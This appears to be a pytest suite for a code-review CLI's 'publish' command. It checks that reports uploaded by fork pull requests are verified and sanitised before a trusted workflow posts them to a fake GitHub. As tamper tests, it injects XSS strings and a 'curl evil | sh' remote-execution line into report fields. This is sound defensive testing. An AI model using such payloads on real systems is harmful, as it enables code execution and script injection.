"""`ygs publish --report`: a report made by `ygs review --format json` in a fork's pull_request run, published
by a trusted workflow_run workflow. A real temp repo, the real CLI, the real PyGithub, a fake GitHub on 127.0.0.1
and workflow_run event files as GitHub sends them."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from fake_github import REPO, actions_env, workflow_run_event

from ygs.github import stored


@pytest.fixture
def report(pr, run_ygs, tmp_path) -> Path:
    """The report the fork's pull_request run uploads: a real `ygs review --format json` of the PR head."""
    path = tmp_path / "artifact" / "report.json"
    path.parent.mkdir()
    made = run_ygs("review", "--no-llm", "--base", "main", "--format", "json", "--output", str(path))
    assert made.exit_code == 1, made.stderr
    return path


@pytest.fixture
def workflow_run(tmp_path, monkeypatch, fake_github):
    """The environment of the trusted workflow_run job: a write token and the workflow_run event."""

    def apply(**event_args: object) -> dict[str, str]:
        event = workflow_run_event(str(event_args.pop("head_sha", fake_github.head_sha)), **event_args)
        return actions_env(monkeypatch, tmp_path, fake_github, event, "workflow_run", "ghs_write")

    return apply


def publish(run_ygs, report: Path, *extra: str):
    return run_ygs("publish", "--report", str(report), *extra)


def error_lines(result) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.strip()]


def test_publishes_a_fork_pull_requests_stored_report(pr, report, fake_github, workflow_run, run_ygs):
    env = workflow_run(fork=True)  # GitHub lists no pull request for a fork: --pr names it
    result = publish(run_ygs, report, "--pr", "7")
    assert result.exit_code == 1, result.stderr
    [run] = fake_github.check_runs.values()
    assert run["head_sha"] == fake_github.head_sha and run["conclusion"] == "failure"
    assert run["details_url"] == f"https://github.com/{REPO}/actions/runs/123"  # the run that reviewed
    assert [a["path"] for a in run["annotations"]] == ["app.py"]
    [comment] = fake_github.review_comments.values()
    assert (comment["path"], comment["line"]) == ("app.py", 2) and "hygiene-breakpoint" in comment["body"]
    [summary] = fake_github.summaries
    assert "ygs review blocked" in summary["body"]
    assert "ygs review blocked" in Path(env["GITHUB_STEP_SUMMARY"]).read_text(encoding="utf-8")
    assert "published to pull request #7" in result.stderr

    again = publish(run_ygs, report, "--pr", "7")  # a re-run of the publisher: nothing twice
    assert again.exit_code == 1
    assert len(fake_github.summaries) == 1 and len(fake_github.review_comments) == 1


def test_a_same_repository_run_names_its_pull_request(pr, report, fake_github, workflow_run, run_ygs):
    workflow_run(fork=False)
    result = publish(run_ygs, report)
    assert result.exit_code == 1, result.stderr
    assert [r["conclusion"] for r in fake_github.check_runs.values()] == ["failure"]


def test_a_fork_run_finds_its_pull_request_by_head_branch_and_commit(pr, report, fake_github, workflow_run, run_ygs):
    workflow_run(fork=True)  # workflow_run.pull_requests is empty: the open PR of mallory:feature at that commit
    result = publish(run_ygs, report)
    assert result.exit_code == 1, result.stderr
    assert any(r.method == "GET" and r.path == f"/repos/{REPO}/pulls" for r in fake_github.requests)
    assert "published to pull request #7" in result.stderr


def test_a_fork_run_whose_commit_no_open_pull_request_has_exits_2(pr, report, fake_github, workflow_run, run_ygs):
    reviewed = fake_github.head_sha
    workflow_run(fork=True)
    fake_github.head_sha = "e" * 40  # the branch moved on: no open pull request has the reviewed commit
    result = publish(run_ygs, report)
    assert result.exit_code == 2 and error_lines(result) == [
        f"ygs: error: no open pull request of mallory:feature with head {reviewed[:12]}; pass --pr N (ygs checks "
        f"that N's head is workflow_run.head_sha)"]
    assert not fake_github.writes()


def test_refuses_a_report_for_a_head_the_pull_request_no_longer_has(pr, report, fake_github, workflow_run, run_ygs):
    reviewed = fake_github.head_sha
    workflow_run(fork=True, head_sha=reviewed)
    pr.write("app.py", "def f():\n    return 2\n")
    fake_github.head_sha = pr.commit("a newer push")  # the pull request moved on since the run
    result = publish(run_ygs, report, "--pr", "7")
    assert result.exit_code == 2
    assert error_lines(result) == [f"ygs: error: pull request #7's head is {fake_github.head_sha[:12]}, not "
                                   f"{reviewed[:12]}, the commit the workflow run reviewed (a newer push: its own "
                                   f"run publishes its report); nothing published"]
    assert not fake_github.writes()


def test_refuses_a_report_of_another_commit(pr, report, fake_github, workflow_run, run_ygs):
    workflow_run(fork=True)
    data = json.loads(report.read_text(encoding="utf-8"))
    data["head"]["sha"] = fake_github.base_sha  # a report made elsewhere, uploaded by this run
    report.write_text(json.dumps(data), encoding="utf-8")
    result = publish(run_ygs, report, "--pr", "7")
    assert result.exit_code == 2 and len(error_lines(result)) == 1
    assert f"it is of commit {fake_github.base_sha[:12]}, not of pull request #7's head" in result.stderr
    assert not fake_github.writes()


def test_refuses_a_pull_request_number_whose_head_is_another_commit(pr, report, fake_github, workflow_run, run_ygs):
    workflow_run(fork=True)
    result = publish(run_ygs, report, "--pr", "8")  # the fake has only #7: another PR's number is refused
    assert result.exit_code == 2 and len(error_lines(result)) == 1
    assert "cannot read pull request #8 to verify the report: 404" in result.stderr
    assert not fake_github.writes()


def test_refuses_a_run_that_was_not_on_a_pull_request(pr, report, fake_github, workflow_run, run_ygs):
    workflow_run(fork=False, event="push")
    result = publish(run_ygs, report)
    assert result.exit_code == 2 and len(error_lines(result)) == 1
    assert "ran on 'push', not on a pull request" in result.stderr
    assert not fake_github.requests


def _tamper(data: dict, how: str) -> object:
    finding = data["findings"][0]
    if how == "schema":
        data["schema"] = "ygs.review/v2"
    elif how == "verdict-word":
        data["verdict"] = "approved"
    elif how == "severity":
        finding["severity"] = "CRITICAL"
    elif how == "line-type":
        finding["line"] = "2"
    elif how == "findings-type":
        data["findings"] = {"0": finding}
    elif how == "fail-level":
        data["fail_level"] = "LOW"
    elif how == "too-many":
        data["findings"] = [finding] * (stored.MAX_FINDINGS + 1)
    elif how == "huge-string":
        finding["message"] = "x" * (stored.MAX_STRING + 1)
    elif how == "no-head":
        data["head"] = {}
    elif how == "run-id":
        data["run_id"] = "x` <img src=x onerror=alert(1)> `"
    elif how == "filter":
        data["filter"] = "none"
    elif how == "array":
        return [data]
    return data


TAMPERED = ["schema", "verdict-word", "severity", "line-type", "findings-type", "fail-level", "too-many",
            "huge-string", "no-head", "run-id", "filter", "array"]


@pytest.mark.parametrize("how", TAMPERED)
def test_refuses_a_tampered_report_with_one_line(pr, report, fake_github, workflow_run, run_ygs, how):
    workflow_run(fork=True)
    report.write_text(json.dumps(_tamper(json.loads(report.read_text(encoding="utf-8")), how)), encoding="utf-8")
    result = publish(run_ygs, report, "--pr", "7")
    assert result.exit_code == 2
    [line] = error_lines(result)
    assert line.startswith(f"ygs: error: refusing the report {report}: ") and len(line) < 500, line
    assert not fake_github.requests  # refused before any API call


@pytest.mark.parametrize("content", [b"{not json", b"\xff\xfe{}", b"[" * 100_000 + b"]" * 100_000, b""])
def test_refuses_a_report_that_is_not_json(pr, report, fake_github, workflow_run, run_ygs, content):
    workflow_run(fork=True)
    report.write_bytes(content)
    result = publish(run_ygs, report, "--pr", "7")
    assert result.exit_code == 2
    [line] = error_lines(result)
    assert line.startswith(f"ygs: error: refusing the report {report}: not valid JSON"), line
    assert not fake_github.requests


def test_refuses_an_oversized_report_without_reading_it_all(pr, report, workflow_run, run_ygs, monkeypatch):
    workflow_run(fork=True)
    monkeypatch.setattr(stored, "MAX_BYTES", 1024 * 1024)
    report.write_bytes(b" " * (2 * 1024 * 1024) + report.read_bytes())
    result = publish(run_ygs, report, "--pr", "7")
    assert result.exit_code == 2
    assert error_lines(result) == [f"ygs: error: refusing the report {report}: larger than 1 MiB"]


def test_a_forged_verdict_is_recomputed_from_the_findings(pr, report, fake_github, workflow_run, run_ygs):
    workflow_run(fork=True)
    data = json.loads(report.read_text(encoding="utf-8"))
    assert data["findings"][0]["severity"] == "MUST"
    data.update(verdict="pass", fail_level="never", exit_code=0)  # "nothing blocks"
    data["summary"]["blocking"] = 0
    data["evidence"]["analyzers"]["hygiene"]["rules_run"] = "<img src=x onerror=alert(1)>"
    data["evidence"]["evil"] = {"nested": ["<script>"]}
    report.write_text(json.dumps(data), encoding="utf-8")
    result = publish(run_ygs, report, "--pr", "7")
    assert result.exit_code == 1, result.stderr  # published at the publisher's fail level, MUST
    assert ("ygs: warning: the report says 'pass' but its findings make it 'fail' at fail level MUST; "
            "publishing 'fail'") in result.stderr
    assert [r["conclusion"] for r in fake_github.check_runs.values()] == ["failure"]
    [summary] = fake_github.summaries
    assert "ygs review blocked" in summary["body"]
    assert "The stored report said" in summary["body"] and "fail level never" in summary["body"]
    assert "<img" not in summary["body"] and "<script>" not in summary["body"]


def test_the_fail_level_is_the_publishers(pr, report, fake_github, workflow_run, run_ygs):
    workflow_run(fork=True)
    result = publish(run_ygs, report, "--pr", "7", "--fail-level", "never")
    assert result.exit_code == 0, result.stderr
    assert [r["conclusion"] for r in fake_github.check_runs.values()] == ["success"]


def test_a_pull_request_event_checks_the_report_against_its_head(pr, report, fake_github, gh_env, run_ygs):
    gh_env(fake_github.head_sha)
    assert publish(run_ygs, report).exit_code == 1
    gh_env("f" * 40)
    result = publish(run_ygs, report)
    assert result.exit_code == 2 and "not of pull request #7's head ffffffffffff" in result.stderr


def test_a_trusted_checkout_fetches_the_reviewed_commit_to_place_comments(pr, report, fake_github, workflow_run,
                                                                          run_ygs, tmp_path):
    """The publisher checks out the base repository's default branch (never the fork's code): ygs fetches the
    pull request's head by sha (objects only) to place the inline comments."""
    trusted = tmp_path / "trusted"
    pr.git("clone", "-q", "--no-local", "--single-branch", "--branch", "main", str(pr.path), str(trusted))
    absent = subprocess.run(["git", "cat-file", "-e", fake_github.head_sha], cwd=trusted, capture_output=True)
    assert absent.returncode != 0  # the fork's commit is not in the trusted checkout yet
    workflow_run(fork=True)
    result = run_ygs("publish", "--report", str(report), "--pr", "7", cwd=trusted)
    assert result.exit_code == 1, result.stderr
    [comment] = fake_github.review_comments.values()
    assert (comment["path"], comment["line"]) == ("app.py", 2)
    assert (trusted / "app.py").read_text(encoding="utf-8") == "def f():\n    return 1\n"  # nothing checked out


def test_outside_a_checkout_the_summary_lists_every_finding(pr, report, fake_github, workflow_run, run_ygs,
                                                            tmp_path):
    empty = tmp_path / "no-checkout"
    empty.mkdir()
    workflow_run(fork=True)
    result = run_ygs("publish", "--report", str(report), "--pr", "7", cwd=empty)
    assert result.exit_code == 1, result.stderr
    assert not fake_github.review_comments
    [summary] = fake_github.summaries
    assert "hygiene-breakpoint" in summary["body"] and "Inline comments were not posted" in summary["body"]
    assert [r["conclusion"] for r in fake_github.check_runs.values()] == ["failure"]


def test_the_documented_fork_workflows_use_real_options():
    import re
    import shlex

    import yaml

    from ygs.commands.publish import publish as publish_command
    from ygs.commands.review import review as review_command

    text = (Path(__file__).parents[2] / "docs" / "github-action.md").read_text(encoding="utf-8")
    blocks = [yaml.safe_load(b) for b in re.findall(r"```yaml\n(.*?)```", text, re.S)]
    workflows = {b["name"]: b for b in blocks if isinstance(b, dict) and "jobs" in b and "name" in b}
    review_wf, publish_wf = workflows["ygs review"], workflows["ygs publish"]
    assert publish_wf.get("on", publish_wf.get(True))["workflow_run"]["workflows"] == [review_wf["name"]]
    assert review_wf["permissions"] == {"contents": "read"}  # the fork's run: nothing to write
    assert publish_wf["permissions"] == {"contents": "read", "actions": "read", "pull-requests": "write",
                                         "checks": "write"}
    review_steps, publish_steps = review_wf["jobs"]["review"]["steps"], publish_wf["jobs"]["publish"]["steps"]
    upload = next(s for s in review_steps if s.get("uses", "").startswith("actions/upload-artifact@"))
    download = next(s for s in publish_steps if s.get("uses", "").startswith("actions/download-artifact@"))
    assert upload["with"]["name"] == download["with"]["name"] and "cancelled()" in upload["if"]
    checkout = next(s for s in publish_steps if s.get("uses", "").startswith("actions/checkout@"))
    assert "ref" not in checkout.get("with", {})  # the default branch, never the fork's head
    for steps, command in ((review_steps, review_command), (publish_steps, publish_command)):
        [run] = [s["run"] for s in steps if s.get("run", "").startswith(f"ygs {command.name}")]
        options = {opt for param in command.params for opt in param.opts}
        assert {a for a in shlex.split(run)[2:] if a.startswith("-")} <= options, run
    [published] = [s["run"] for s in publish_steps if s.get("run", "").startswith("ygs publish")]
    report = shlex.split(published)[shlex.split(published).index("--report") + 1]
    assert report == f"{download['with']['path']}/{upload['with']['path']}"


def test_a_stored_reports_suggestions_are_not_posted(pr, report, fake_github, workflow_run, run_ygs):
    """A fork could put any code into a suggestion the bot would post for a maintainer to commit."""
    data = json.loads(report.read_text(encoding="utf-8"))
    [finding] = [f for f in data["findings"] if f["rule_id"] == "hygiene-breakpoint"]
    finding["suggestion"] = {"line": finding["line"], "text": "    import os; os.system('curl evil | sh')"}
    report.write_text(json.dumps(data), encoding="utf-8")
    workflow_run(fork=True)
    result = publish(run_ygs, report, "--pr", "7")
    assert result.exit_code == 1, result.stderr
    [comment] = fake_github.review_comments.values()
    assert "hygiene-breakpoint" in comment["body"]
    assert "suggestion" not in comment["body"] and "evil" not in comment["body"]
